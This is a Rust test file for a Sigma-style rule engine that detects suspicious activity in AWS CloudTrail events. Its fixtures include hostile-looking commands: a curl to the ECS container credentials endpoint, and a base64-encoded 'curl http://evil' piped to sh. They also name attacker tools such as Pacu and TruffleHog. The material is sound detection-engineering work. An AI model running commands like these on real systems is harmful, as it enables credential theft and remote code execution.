//! Detection semantics on CloudTrail batches: values, modifiers, conditions.

use super::*;

fn iam(name: &str) -> Value {
    ct(name, "iam.amazonaws.com", json!({}))
}

#[test]
fn plain_values_are_case_insensitive_with_wildcards() {
    let events = [
        iam("CreateUser"),
        iam("createaccesskey"),
        iam("CreateLoginProfile"),
        iam("DeleteUser"),
    ];
    assert_eq!(
        ct_matches("s:\n  eventName: createuser\ncondition: s", &events),
        [true, false, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  eventName: 'Create*'\ncondition: s", &events),
        [true, true, true, false]
    );
    assert_eq!(
        ct_matches("s:\n  eventName: '?reateUser'\ncondition: s", &events),
        [true, false, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  eventName: 'C*Log*e'\ncondition: s", &events),
        [false, false, true, false]
    );
    // A list ORs.
    assert_eq!(
        ct_matches("s:\n  eventName: [DeleteUser, CreateUser]\n  eventSource: iam.amazonaws.com\ncondition: s", &events),
        [true, false, false, true]
    );
    let star = [
        ct("Get*", "s3.amazonaws.com", json!({})),
        ct("GetObject", "s3.amazonaws.com", json!({})),
    ];
    assert_eq!(
        ct_matches(
            r"s:\n  eventName: 'Get\*'\ncondition: s"
                .replace(r"\n", "\n")
                .as_str(),
            &star
        ),
        [true, false]
    );
}

#[test]
fn cased_matches_exactly() {
    let events = [iam("CreateUser"), iam("createuser")];
    assert_eq!(
        ct_matches("s:\n  eventName|cased: CreateUser\ncondition: s", &events),
        [true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  eventName|cased|startswith: create\ncondition: s",
            &events
        ),
        [false, true]
    );
}

#[test]
fn string_modifiers_and_all() {
    let ua = |u: &str| {
        ct(
            "GetCallerIdentity",
            "sts.amazonaws.com",
            json!({"userAgent": u}),
        )
    };
    let events = [
        ua("TruffleHog v3.63"),
        ua("aws-cli/2.15 trufflehog"),
        ua("Boto3/1.34"),
        ua("S3 Browser 11.5"),
    ];
    assert_eq!(
        ct_matches(
            "s:\n  userAgent|contains: trufflehog\ncondition: s",
            &events
        ),
        [true, true, false, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userAgent|startswith: [boto, 's3 ']\ncondition: s",
            &events
        ),
        [false, false, true, true]
    );
    assert_eq!(
        ct_matches("s:\n  userAgent|endswith: '.5'\ncondition: s", &events),
        [false, false, false, true]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userAgent|contains|all: [aws-cli, hog]\ncondition: s",
            &events
        ),
        [false, true, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  userAgent|neq: 'Boto3/1.34'\ncondition: s", &events),
        [true, true, false, true]
    );
}

#[test]
fn null_empty_and_exists() {
    let events = [
        ct("DeleteBucket", "s3.amazonaws.com", json!({})),
        ct(
            "DeleteBucket",
            "s3.amazonaws.com",
            json!({"errorCode": "AccessDenied"}),
        ),
        ct("DeleteBucket", "s3.amazonaws.com", json!({"errorCode": ""})),
    ];
    assert_eq!(
        ct_matches("s:\n  errorCode: null\ncondition: s", &events),
        [true, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  errorCode: ''\ncondition: s", &events),
        [false, false, true]
    );
    assert_eq!(
        ct_matches("s:\n  errorCode|exists: true\ncondition: s", &events),
        [false, true, true]
    );
    assert_eq!(
        ct_matches("s:\n  errorCode|exists: false\ncondition: s", &events),
        [true, false, false]
    );
    // `contains: '*'`: any value at all.
    assert_eq!(
        ct_matches("s:\n  errorCode|contains: '*'\ncondition: s", &events),
        [false, true, true]
    );
    // A JSON path: absent when the document or the key is missing.
    let rp = [
        ct(
            "PutObject",
            "s3.amazonaws.com",
            json!({"requestParameters": {"bucketName": "b"}}),
        ),
        ct(
            "PutObject",
            "s3.amazonaws.com",
            json!({"requestParameters": {"key": "k"}}),
        ),
        ct("PutObject", "s3.amazonaws.com", json!({})),
    ];
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.bucketName: null\ncondition: s",
            &rp
        ),
        [false, true, true]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.bucketName|exists: true\ncondition: s",
            &rp
        ),
        [true, false, false]
    );
}

#[test]
fn json_paths_reach_through_arrays() {
    let task = |cmd: Value| {
        ct(
            "RegisterTaskDefinition",
            "ecs.amazonaws.com",
            json!({"requestParameters": {"family": "f", "containerDefinitions": [
                {"name": "a", "command": ["sh", "-c", "echo hi"]},
                {"name": "b", "command": cmd}
            ]}}),
        )
    };
    let events = [
        task(json!([
            "curl",
            "169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"
        ])),
        task(json!(["sleep", "10"])),
        task(json!("curl $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI")),
    ];
    let rule = "s:\n  eventSource: ecs.amazonaws.com\n  requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'\ncondition: s";
    assert_eq!(ct_matches(rule, &events), [true, false, true]);
    // Every element is a value: `all` needs each needle in some element.
    let all =
        "s:\n  requestParameters.containerDefinitions.command|all: [sleep, '10']\ncondition: s";
    assert_eq!(ct_matches(all, &events), [false, true, false]);
    let name = "s:\n  requestParameters.containerDefinitions.name: b\ncondition: s";
    assert_eq!(ct_matches(name, &events), [true, true, true]);
}

#[test]
fn whole_json_documents_match_as_text() {
    let policy = |effect: &str| {
        let doc = format!(
            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"{effect}","Action":"s3:GetObject","Resource":"arn:aws:s3:::b/*"}}]}}"#
        );
        ct(
            "PutUserPolicy",
            "iam.amazonaws.com",
            json!({"requestParameters": {"userName": "bob", "policyDocument": doc}}),
        )
    };
    let events = [policy("Allow"), policy("Deny")];
    // The policy is a JSON string inside JSON: its quotes are escaped in the text.
    let rule = "s:\n  requestParameters|contains|all:\n    - '\"s3:GetObject\"'\n    - '\"Allow\"'\ncondition: s";
    assert_eq!(ct_matches(rule, &events), [true, false]);
    let path =
        "s:\n  requestParameters.policyDocument|contains: '\"Effect\":\"Deny\"'\ncondition: s";
    assert_eq!(ct_matches(path, &events), [false, true]);
    // Paths go on into JSON held in a string.
    let deep = "s:\n  requestParameters.policyDocument.Statement.Effect: deny\ncondition: s";
    assert_eq!(ct_matches(deep, &events), [false, true]);
}

#[test]
fn keywords_search_text_and_json_columns() {
    let events = [
        ct(
            "GetObject",
            "s3.amazonaws.com",
            json!({"requestParameters": {"key": "backup/passwords.kdbx"}}),
        ),
        ct(
            "ListBuckets",
            "s3.amazonaws.com",
            json!({"userAgent": "Pacu/1.5"}),
        ),
        ct("ListBuckets", "s3.amazonaws.com", json!({})),
        ct(
            "ConsoleLogin",
            "signin.amazonaws.com",
            json!({"additionalEventData": {"MFAUsed": "No", "note": "a \"quoted\" kdbx"}}),
        ),
    ];
    assert_eq!(
        ct_matches(
            "keywords:\n  - '.KDBX'\n  - pacu\ncondition: keywords",
            &events
        ),
        [true, true, false, false]
    );
    assert_eq!(
        ct_matches(
            "keywords:\n  '|all':\n    - kdbx\n    - '\"quoted\"'\ncondition: keywords",
            &events
        ),
        [false, false, false, true]
    );
    assert_eq!(
        ct_matches(
            "keywords:\n  - 'arn:aws:iam::111122223333:user/alice'\ncondition: keywords",
            &events
        ),
        [true, true, true, true]
    );
}

#[test]
fn numbers_compare_numerically() {
    let e = |n: Value| {
        ct(
            "ListObjects",
            "s3.amazonaws.com",
            json!({"requestParameters": {"maxKeys": n}}),
        )
    };
    let events = [
        e(json!(5)),
        e(json!(1000)),
        e(json!("250")),
        e(json!("many")),
    ];
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys|gt: 100\ncondition: s",
            &events
        ),
        [false, true, true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys|gte: 250\ncondition: s",
            &events
        ),
        [false, true, true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys|lt: 250\ncondition: s",
            &events
        ),
        [true, false, false, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys|lte: 250\ncondition: s",
            &events
        ),
        [true, false, true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys: 1000.0\ncondition: s",
            &events
        ),
        [false, true, false, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  requestParameters.maxKeys: many\ncondition: s",
            &events
        ),
        [false, false, false, true]
    );
}

#[test]
fn cidr_matches_v4_and_v6() {
    let ip = |a: &str| {
        ct(
            "ConsoleLogin",
            "signin.amazonaws.com",
            json!({"sourceIPAddress": a}),
        )
    };
    let events = [
        ip("10.20.30.40"),
        ip("192.0.2.7"),
        ip("2001:db8:0:1::9"),
        ip("2001:db9::1"),
        ip("AWS Internal"),
    ];
    let rule = "s:\n  sourceIPAddress|cidr:\n    - 10.0.0.0/8\n    - 2001:db8::/32\ncondition: s";
    assert_eq!(ct_matches(rule, &events), [true, false, true, false, false]);
    let not = "s:\n  sourceIPAddress|cidr: 10.0.0.0/8\ncondition: not s";
    assert_eq!(ct_matches(not, &events), [false, true, true, true, true]);
}

#[test]
fn encodings_and_windash() {
    let cmd = |c: &str| {
        ct(
            "SendCommand",
            "ssm.amazonaws.com",
            json!({"requestParameters": {"parameters": {"commands": [c]}}}),
        )
    };
    let b64 = crate::sigma::modifiers::base64("curl http://evil");
    let events = [
        cmd(&format!("echo {b64} | base64 -d | sh")),
        cmd(&format!(
            "echo {} | base64 -d | sh",
            crate::sigma::modifiers::base64("xcurl http://evil")
        )),
        cmd(&format!(
            "echo {} | base64 -d",
            crate::sigma::modifiers::base64("xycurl http://evil")
        )),
        cmd(&format!("echo {}", b64.to_lowercase())),
        cmd("powershell /EncodedCommand abc"),
        cmd("powershell \u{2014}encodedcommand abc"),
        cmd("powershell -EncodedCommand abc"),
    ];
    let plain = "s:\n  requestParameters.parameters.commands|base64|contains: 'curl http://evil'\ncondition: s";
    assert_eq!(
        ct_matches(plain, &events),
        [true, false, false, false, false, false, false]
    );
    let offset = "s:\n  requestParameters.parameters.commands|base64offset|contains: 'curl http://evil'\ncondition: s";
    // Found at each byte offset; encodings are case-sensitive.
    assert_eq!(
        ct_matches(offset, &events),
        [true, true, true, false, false, false, false]
    );
    let dash = "s:\n  requestParameters.parameters.commands|windash|contains: ' -encodedcommand '\ncondition: s";
    assert_eq!(
        ct_matches(dash, &events),
        [false, false, false, false, true, true, true]
    );
}

#[test]
fn regular_expressions_and_their_flags() {
    let arn = |a: &str| {
        ct(
            "GetObject",
            "s3.amazonaws.com",
            json!({"userIdentity": {"type": "AssumedRole", "arn": a}}),
        )
    };
    let events = [
        arn("arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc"),
        arn("arn:aws:sts::111122223333:assumed-role/deployer/ci"),
        arn("ARN:AWS:STS::111122223333:ASSUMED-ROLE/AWS:EC2-INSTANCE/i-0abc"),
    ];
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.arn|re: '.+:assumed-role/aws:.+'\ncondition: s",
            &events
        ),
        [true, false, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.arn|re|i: ':assumed-role/aws:'\ncondition: s",
            &events
        ),
        [true, false, true]
    );
    let lines = [ct(
        "X",
        "s3.amazonaws.com",
        json!({"errorMessage": "first\nsecond line"}),
    )];
    assert_eq!(
        ct_matches("s:\n  errorMessage|re: '^second'\ncondition: s", &lines),
        [false]
    );
    assert_eq!(
        ct_matches("s:\n  errorMessage|re|m: '^second'\ncondition: s", &lines),
        [true]
    );
    assert_eq!(
        ct_matches(
            "s:\n  errorMessage|re: 'first.second'\ncondition: s",
            &lines
        ),
        [false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  errorMessage|re|s: 'first.second'\ncondition: s",
            &lines
        ),
        [true]
    );
}

#[test]
fn booleans_compare_as_text() {
    let e = |ro: bool, mfa: &str| {
        ct(
            "GetObject",
            "s3.amazonaws.com",
            json!({
                "readOnly": ro,
                "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::1:user/a",
                    "sessionContext": {"attributes": {"mfaAuthenticated": mfa}}}
            }),
        )
    };
    let events = [e(true, "true"), e(false, "false")];
    assert_eq!(
        ct_matches("s:\n  readOnly: false\ncondition: s", &events),
        [false, true]
    );
    assert_eq!(
        ct_matches("s:\n  readOnly: 'TRUE'\ncondition: s", &events),
        [true, false]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.sessionContext.attributes.mfaAuthenticated: false\ncondition: s",
            &events
        ),
        [false, true]
    );
}

#[test]
fn fieldref_compares_fields_of_the_same_row() {
    let e = |caller: &str, target: &str| {
        ct(
            "UpdateLoginProfile",
            "iam.amazonaws.com",
            json!({
                "userIdentity": {"type": "IAMUser", "arn": format!("arn:aws:iam::1:user/{caller}"), "userName": caller},
                "requestParameters": {"userName": target}
            }),
        )
    };
    let events = [e("alice", "alice"), e("alice", "bob"), e("Alice", "alice")];
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: s",
            &events
        ),
        [true, false, true]
    );
    assert_eq!(
        ct_matches(
            "s:\n  userIdentity.userName|fieldref|cased: requestParameters.userName\ncondition: s",
            &events
        ),
        [true, false, false]
    );
    assert_eq!(
        ct_matches("s:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: not s", &events),
        [false, true, false]
    );
}
